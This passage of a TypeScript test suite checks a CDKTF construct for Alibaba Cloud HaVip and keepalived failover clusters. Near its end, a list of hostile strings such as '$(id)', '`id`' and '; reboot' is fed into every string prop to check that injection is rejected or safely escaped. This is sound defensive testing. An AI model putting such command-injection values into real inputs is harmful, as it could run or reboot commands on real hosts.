      /^stack\/web: nodes\[0\] user_data = (\d+): must be at most 32768 bytes, got \1: fewer members, tracked interfaces or a shorter health check \(RunInstances API: UserData, at most 32 KB before Base64 encoding\)$/m,
    );
    expect(stack.node.tryFindChild('web')).toBeUndefined();
  });
});

describe('props are read once (issue 13, class 4)', () => {
  test('a getter is read once and the resources use that value', () => {
    let reads = 0;
    const props = {
      ...GUIDE_PROPS,
      get vpcId() {
        reads++;
        return reads === 1 ? 'vpc-first' : 'vpc-${var.second}';
      },
    };
    const stack = build(props);
    expect(reads).toBe(1);
    const doc = JSON.parse(Testing.synth(stack)) as SynthDoc;
    expect(resourcesOf(doc, 'alicloud_security_group').map((g) => g.vpc_id)).toEqual(['vpc-first']);
  });

  test('nested getters (a node address) are read once too', () => {
    let reads = 0;
    const first = { get privateIp() { reads++; return reads === 1 ? '192.168.0.25' : '192.168.0.26'; } };
    const stack = build({ ...GUIDE_PROPS, nodes: [first, GUIDE_PROPS.nodes[1]] });
    expect(reads).toBe(1);
    const doc = JSON.parse(Testing.synth(stack)) as SynthDoc;
    expect(resourcesOf(doc, 'alicloud_instance').map((i) => i.private_ip)).toEqual(['192.168.0.25', '192.168.0.26']);
  });

  test('the construct builds from a frozen copy: changing the props afterwards changes nothing', () => {
    const props = JSON.parse(JSON.stringify(GUIDE_PROPS)) as { vpcId: string };
    const cluster = new HaVipCluster(new TerraformStack(Testing.app(), 'stack'), 'web', props as unknown as HaVipClusterProps);
    props.vpcId = 'vpc-changed';
    expect(cluster.vpcId).toBe(GUIDE_PROPS.vpcId);
  });
});

describe('a rejected cluster leaves nothing behind (issue 13, class 8)', () => {
  test('a retry with the same id works, and the rejected one counts towards no quota', () => {
    const stack = new TerraformStack(Testing.app(), 'stack');
    new AlicloudProvider(stack, 'alicloud', { region: 'cn-hangzhou' });
    new HaVipCluster(stack, 'web', GUIDE_PROPS);
    // Same VPC and router id as web, and a bad vpcId: rejected, then caught by the user.
    validationErrorOf(() => new HaVipCluster(stack, 'db', { ...GUIDE_PROPS, vswitchId: 'vsw-2', nodes: [{ privateIp: '192.168.0.40' }, { privateIp: 'x' }] }));
    expect(stack.node.tryFindChild('db')).toBeUndefined();
    expect(() => Testing.synth(stack)).not.toThrow();
    const db = new HaVipCluster(stack, 'db', { ...GUIDE_PROPS, havip: undefined, keepalived: { ...GUIDE_PROPS.keepalived, virtualRouterId: 52 }, nodes: [{ privateIp: '192.168.0.40' }, { privateIp: '192.168.0.41' }] });
    expect(db.node.path).toBe('stack/db');
    expect(() => Testing.synth(stack)).not.toThrow();
  });
});

// The edges of every keepalived range we accept: real keepalived must accept them too.
const BOUNDARIES: [string, Patch][] = [
  ['vrid 1, priorities 1 and 254', (p) => ({ ...(keepalived({ virtualRouterId: 1 })(p) as HaVipClusterProps), nodes: [{ privateIp: '192.168.0.25', priority: 254 }, { privateIp: '192.168.0.26', priority: 1 }] })],
  ['vrid 255, advert_int 255', keepalived({ virtualRouterId: 255, advertInt: 255 })],
  ['garp 0 and 0', keepalived({ garpMasterDelay: 0, garpMasterRefresh: 0 })],
  ['garp 4294 and 4294', keepalived({ garpMasterDelay: 4294, garpMasterRefresh: 4294 })],
  ['preempt_delay 0', keepalived({ preempt: true, preemptDelay: 0 })],
  ['preempt_delay 1000', keepalived({ preempt: true, preemptDelay: 1000 })],
  ['a 15-character interface', keepalived({ interface: 'a23456789012345', trackInterfaces: ['b.c-d_e', '...'] })],
  ['auth_pass of 8 punctuation characters', keepalived({ authPass: '%&()*+,-' })],
  ['auth_pass of other punctuation', keepalived({ authPass: './:;<=>?' })],
  ['auth_pass of the rest', keepalived({ authPass: '@[]^_`|~' })],
  ['health check maxima', keepalived({ preempt: true, healthCheck: { script: `/bin/true ${'x'.repeat(990)}`, interval: 4294, timeout: 4294, fall: 2147483647, rise: 2147483647, weight: 253 } })],
  ['health check minima', keepalived({ preempt: true, healthCheck: { script: '/bin/true', interval: 1, timeout: 1, fall: 1, rise: 1, weight: -253 } })],
  ['ten nodes with default priorities', set({ nodes: Array.from({ length: 10 }, (_, i) => ({ privateIp: `192.168.0.${30 + i}` })) })],
  ['interface names ip(8) reads as keywords', keepalived({ interface: 'dev', trackInterfaces: ['n', 'name', 'type', 'link'] })],
];

describe('boundary values', () => {
  withKeepalived.each(BOUNDARIES)('%s: accepted by the rules and by keepalived --config-test', (_name, patch) => {
    const stack = new TerraformStack(Testing.app(), 'stack');
    const cluster = new HaVipCluster(stack, 'web', patch(GUIDE_PROPS) as HaVipClusterProps);
    expect(cluster.node.metadata.filter((m) => m.type === '@cdktf/warn')).toEqual([]);
    for (const config of [cluster.keepalivedConfigs[0], cluster.keepalivedConfigs[cluster.keepalivedConfigs.length - 1]]) {
      const result = keepalivedConfigTest(config);
      expect({ exitCode: result.exitCode, output: result.output }).toEqual({ exitCode: 0, output: '' });
    }
  });
});

describe('tokens', () => {
  test('a CIDR, VPC and vSwitch from other resources skip the literal-only checks with infos, and synthesize', () => {
    const stack = new TerraformStack(Testing.app(), 'stack');
    new AlicloudProvider(stack, 'alicloud', { region: 'cn-hangzhou' });
    const vpc = new Vpc(stack, 'vpc', { cidrBlock: '192.168.0.0/16' });
    const sw = new Vswitch(stack, 'sw', { vpcId: vpc.id, cidrBlock: '192.168.0.0/24', zoneId: 'cn-hangzhou-h' });
    const cluster = new HaVipCluster(stack, 'web', { ...GUIDE_PROPS, vpcId: vpc.id, vswitchId: sw.id, vswitchCidrBlock: sw.cidrBlock, havip: undefined });
    const json = Testing.synth(stack, true);
    expect(formatProblems(checkAgainstSchema(json))).toBe('');
    const infos = cluster.node.metadata.filter((m) => m.type === '@cdktf/info').map((m) => String(m.data));
    expect(infos).toContainEqual(expect.stringContaining('vswitchCidrBlock = "${alicloud_vswitch.sw.cidr_block}"'));
    expect(infos.join('\n')).toContain('the address checks against the vSwitch skipped until apply');
  });
});

describe('ENI members follow the node rules (one member per node, its address the ENI\'s)', () => {
  const eni = (patch: Patch): Patch => (p) => ({ ...(patch(p) as HaVipClusterProps), networkInterfaces: {}, keepalived: withoutInterface(p.keepalived) });
  test.each(CATALOGUE.filter(([name]) => ['eleven nodes', 'a node address outside the vSwitch', 'a node on the broadcast address', 'two nodes on one address'].includes(name)))(
    '%s',
    (_name, patch, line) => {
      const e = validationErrorOf(() => build(eni(patch)(GUIDE_PROPS)));
      expect(e.message.split('\n')).toContain(`stack/web: ${line}`);
    },
  );
});

describe('app-wide rules, at synth', () => {
  test('two clusters with one virtual_router_id in one VPC', () => {
    const stack = build(GUIDE_PROPS);
    new HaVipCluster(stack, 'db', { ...GUIDE_PROPS, havip: undefined, nodes: [{ privateIp: '192.168.0.40' }, { privateIp: '192.168.0.41' }] });
    const e = validationErrorOf(() => Testing.synth(stack));
    expect(e.message.split('\n')).toContain(
      'stack/db: keepalived.virtualRouterId = 51: must differ from stack/web, a cluster in the same VPC vpc-bp1k****** (Alibaba Cloud HaVip guide: "Different primary/secondary clusters in the same VPC must have different virtual_router_id values")',
    );
  });

  test('route entries to HaVips in one route table counted across clusters: six are one error, a raised limit allows them', () => {
    const routes = (from: number) => [0, 1, 2].map((i) => ({ routeTableId: 'vtb-shared', destinationCidrBlock: `10.${from + i}.0.0/16` }));
    const gateway = (from: number) => ({ routes: routes(from), sourceCidrs: ['10.0.1.0/24'] });
    const stack = build({ ...GUIDE_PROPS, gateway: gateway(90) });
    new HaVipCluster(stack, 'db', { ...GUIDE_PROPS, havip: undefined, nodes: [{ privateIp: '192.168.0.40' }, { privateIp: '192.168.0.41' }], keepalived: { virtualRouterId: 52 }, gateway: gateway(100) });
    const e = validationErrorOf(() => Testing.synth(stack));
    expect(e.message.split('\n')).toContain(
      'stack/db/route-3: route_table_id = "vtb-shared": has 6 route entries whose next hop is an HaVip in this app (stack/web/route-1, stack/web/route-2, stack/web/route-3, stack/db/route-1, stack/db/route-2, stack/db/route-3), at most 5 (Alibaba Cloud HaVip guide, "Quotas": vpc_quota_havip_custom_route_entry, "Entries whose destination is an HaVip in a route table" (adjustable))',
    );
    const raised = build({ ...GUIDE_PROPS, gateway: gateway(90), limits: { routeEntriesPerRouteTable: 6 } });
    new HaVipCluster(raised, 'db', { ...GUIDE_PROPS, havip: undefined, nodes: [{ privateIp: '192.168.0.40' }, { privateIp: '192.168.0.41' }], keepalived: { virtualRouterId: 52 }, gateway: gateway(100) });
    expect(() => Testing.synth(raised)).not.toThrow();
  });

  test('a raw alicloud_havip_attachment of type EcsInstance on an ENI cluster\'s HaVip: one member type per HaVip', () => {
    const stack = build({ ...GUIDE_PROPS, networkInterfaces: {}, keepalived: withoutInterface(GUIDE_PROPS.keepalived) });
    const cluster = stack.node.findChild('web') as HaVipCluster;
    new HavipAttachment(stack, 'extra', { haVipId: cluster.havip.id, instanceId: 'i-other', instanceType: 'EcsInstance' });
    const e = validationErrorOf(() => Testing.synth(stack));
    expect(e.message).toMatch(/stack\/extra: .*one member type per HaVip/);
  });

  test('a provider region without HaVip', () => {
    const stack = build(GUIDE_PROPS, 'ap-south-1');
    const e = validationErrorOf(() => Testing.synth(stack));
    expect(e.message).toContain('stack/alicloud: region = "ap-south-1": must be a region where HaVip is supported (');
  });

  test('two clusters give one member address in one vSwitch', () => {
    const stack = build(GUIDE_PROPS);
    new HaVipCluster(stack, 'db', { ...GUIDE_PROPS, havip: undefined, keepalived: { ...GUIDE_PROPS.keepalived, virtualRouterId: 52 }, nodes: [{ privateIp: '192.168.0.40' }, { privateIp: '192.168.0.26' }] });
    const e = validationErrorOf(() => Testing.synth(stack));
    expect(e.message.split('\n')).toContain(
      `stack/db/member-192-168-0-26/instance: private_ip = "192.168.0.26": is also the address of stack/web/member-192-168-0-26/instance (an ECS instance of cluster stack/web) in vSwitch vsw-bp1y****** (${ADDRESS_SRC})`,
    );
    expect(e.findings).toHaveLength(1);
  });

  test("one cluster's HaVip address is another's member", () => {
    const stack = build(GUIDE_PROPS);
    new HaVipCluster(stack, 'db', { ...GUIDE_PROPS, havip: { ipAddress: '192.168.0.30' }, keepalived: { ...GUIDE_PROPS.keepalived, virtualRouterId: 52 }, nodes: [{ privateIp: '192.168.0.24' }, { privateIp: '192.168.0.41' }] });
    const e = validationErrorOf(() => Testing.synth(stack));
    expect(e.message.split('\n')).toContain(
      `stack/db/member-192-168-0-24/instance: private_ip = "192.168.0.24": is also the address of stack/web/havip (an HaVip of cluster stack/web) in vSwitch vsw-bp1y****** (${ADDRESS_SRC})`,
    );
  });

  test('the same address in two different vSwitches is fine', () => {
    const stack = build(GUIDE_PROPS);
    new HaVipCluster(stack, 'db', { ...GUIDE_PROPS, vswitchId: 'vsw-other', keepalived: { ...GUIDE_PROPS.keepalived, virtualRouterId: 52 } });
    expect(() => Testing.synth(stack)).not.toThrow();
  });

  test('one vSwitch given with two VPC ids: an error, and the router-id check still sees one VPC', () => {
    const stack = build(GUIDE_PROPS);
    new HaVipCluster(stack, 'db', { ...GUIDE_PROPS, vpcId: 'vpc-other', havip: undefined, nodes: [{ privateIp: '192.168.0.40' }, { privateIp: '192.168.0.41' }] });
    const lines = validationErrorOf(() => Testing.synth(stack)).message.split('\n');
    expect(lines).toContain(
      'stack/db: vpcId = "vpc-other": must be the VPC of vSwitch vsw-bp1y******, which stack/web puts in VPC vpc-bp1k****** (CreateVSwitch API: a vSwitch is created in exactly one VPC (VpcId))',
    );
    expect(lines).toContain(
      'stack/db: keepalived.virtualRouterId = 51: must differ from stack/web, a cluster in the same VPC vpc-bp1k****** (Alibaba Cloud HaVip guide: "Different primary/secondary clusters in the same VPC must have different virtual_router_id values")',
    );
  });

  test('one vSwitch given with two VPC variables: they are one VPC for the router-id check', () => {
    const stack = new TerraformStack(Testing.app(), 'stack');
    new AlicloudProvider(stack, 'alicloud', { region: 'cn-hangzhou' });
    const vpcA = new TerraformVariable(stack, 'vpc_a', { type: 'string' });
    const vpcB = new TerraformVariable(stack, 'vpc_b', { type: 'string' });
    new HaVipCluster(stack, 'web', { ...GUIDE_PROPS, vpcId: vpcA.stringValue });
    new HaVipCluster(stack, 'db', { ...GUIDE_PROPS, vpcId: vpcB.stringValue, havip: undefined, nodes: [{ privateIp: '192.168.0.40' }, { privateIp: '192.168.0.41' }] });
    const e = validationErrorOf(() => Testing.synth(stack));
    expect(e.findings.map((f) => `${f.prop} ${f.rule}`)).toEqual(['keepalived.virtualRouterId must differ from stack/web, a cluster in the same VPC ${var.vpc_a}']);
  });

  test('the same errors stop app.synth()', () => {
    const app = Testing.app();
    const stack = new TerraformStack(app, 'stack');
    new AlicloudProvider(stack, 'alicloud', { region: 'ap-south-1' });
    new HaVipCluster(stack, 'web', GUIDE_PROPS);
    expect(() => app.synth()).toThrow(HaVipValidationError);
  });
});

// Hostile strings into every string prop: each is rejected naming that prop, or the stack synthesizes,
// every boot script parses (`sh -n`) and writes exactly the config the construct rendered.
const HOSTILE = [
  'a\nb', 'a\r\nb', 'a\u0000b', '\u001b[2J', 'a\u2028b', 'a\u202eb', '"', "'", '}', '{', '#', '!', '\\', '$HOME', '$(id)',
  '`id`', '; reboot', '${var.x}', '%{if true}', 'HAVIP_KEEPALIVED_CONF_END', 'HAVIP_HEALTH_CHECK_END', '@@HAVIP_IP_ADDRESS@@',
  ' ', '', '中',
];
const STRING_PROPS: [string, (h: string) => Patch][] = [
  ['vpcId', (h) => set({ vpcId: `vpc-${h}` })],
  ['vswitchId', (h) => set({ vswitchId: `vsw-${h}` })],
  ['vswitchCidrBlock', (h) => set({ vswitchCidrBlock: `192.168.0.0/24${h}` })],
  ['havip.ipAddress', (h) => set({ havip: { ipAddress: `192.168.0.24${h}` } })],
  ['havip.name', (h) => set({ havip: { name: `web${h}` } })],
  ['havip.description', (h) => set({ havip: { description: `web ${h}` } })],
  ['nodes[0].privateIp', (h) => node(0, { privateIp: `192.168.0.25${h}` })],
  ['nodes[0].name', (h) => node(0, { name: `web${h}` })],
  ['instance.instanceType', (h) => instance({ instanceType: `ecs.g7${h}` })],
  ['instance.imageId', (h) => instance({ imageId: `img${h}` })],
  ['instance.keyName', (h) => instance({ keyName: `key${h}` })],
  ['instance.namePrefix', (h) => instance({ namePrefix: `web${h}` })],
  ['instance.tags', (h) => instance({ tags: { [`k${h}`]: `v${h}` } })],
  ['instance.securityGroupIds[0]', (h) => instance({ securityGroupIds: [`sg-${h}`] })],
  ['keepalived.interface', (h) => keepalived({ interface: `eth${h}` })],
  ['keepalived.authPass', (h) => keepalived({ authPass: `p${h}` })],
  ['keepalived.trackInterfaces[0]', (h) => keepalived({ trackInterfaces: [`eth1${h}`] })],
  ['keepalived.healthCheck.script', (h) => keepalived({ healthCheck: { script: `/bin/echo ${h}` } })],
  ['ingress[0].sourceCidr', (h) => ingress({ protocol: 'tcp', port: 80, sourceCidr: `10.0.0.0/8${h}` })],
  ['ingress[0].description', (h) => ingress({ protocol: 'tcp', port: 80, sourceCidr: '10.0.0.0/8', description: `http ${h}` })],
  ['eip.name', (h) => set({ eip: { name: `eip${h}` } })],
  ['eip.isp', (h) => set({ eip: { isp: `BGP${h}` } })],
  ['eip.allocationId', (h) => set({ eip: { allocationId: `eip-${h}` } })],
];

/** The lines a quoted heredoc writes to `file`, joined with their newlines. */
function heredoc(script: string, file: string): string | undefined {
  const lines = script.split('\n');
  const start = lines.findIndex((l) => l.startsWith(`cat > ${file} <<'`));
  if (start < 0) return undefined;
  const delimiter = /<<'([^']+)'$/.exec(lines[start])![1];
  const end = lines.indexOf(delimiter, start + 1);
  return end < 0 ? undefined : lines.slice(start + 1, end).map((l) => `${l}\n`).join('');
}

describe('hostile strings into every string prop', () => {
  test.each(STRING_PROPS)('%s', (prop, patchFor) => {
    let accepted = 0;
    for (const h of HOSTILE) {
      let stack: TerraformStack;
      let cluster: HaVipCluster;
      try {
        stack = new TerraformStack(Testing.app(), 'stack');
        new AlicloudProvider(stack, 'alicloud', { region: 'cn-hangzhou' });
        cluster = new HaVipCluster(stack, 'web', patchFor(h)(GUIDE_PROPS) as HaVipClusterProps);
      } catch (e) {
        if (!(e instanceof HaVipValidationError)) throw e;
        const named = e.findings.map((f) => f.prop);
        expect(named.some((p) => p === prop || p.startsWith(`${prop.replace(/\[0\]$/, '')}`))).toBe(true);
        continue;
      }
      accepted++;
      const json = Testing.synth(stack);
      expect(formatProblems(checkAgainstSchema(json))).toBe('');
      memberScripts(JSON.parse(json) as SynthDoc).forEach((member, i) => {
        // The config travels in the configure command (Cloud Assistant delivery); user_data only installs.
        for (const text of [member.userData, member.configure!.script]) {
          const sh = spawnSync('sh', ['-n'], { input: text, encoding: 'utf8', timeout: 10_000 });
          expect({ value: h, status: sh.status, stderr: sh.stderr }).toEqual({ value: h, status: 0, stderr: '' });
        }
        const script = member.configure!.script;
        expect(heredoc(script, '"$conf_new"')).toBe(cluster.keepalivedConfigs[i]);
        if (i === 0 && prop.startsWith('keepalived.') && !CONFIG_TEST_UNAVAILABLE) {
          expect({ value: h, ...keepalivedConfigTest(cluster.keepalivedConfigs[0]) }).toEqual(expect.objectContaining({ value: h, exitCode: 0 }));
        }
        const command = (patchFor(h)(GUIDE_PROPS) as HaVipClusterProps).keepalived.healthCheck?.script;
        if (command !== undefined) {
          expect(heredoc(script, '"$check_new"')?.split('\n')).toContain(command);
        }
      });
    }
    expect(accepted).toBeLessThan(HOSTILE.length); // something in the list is always refused
  });
});
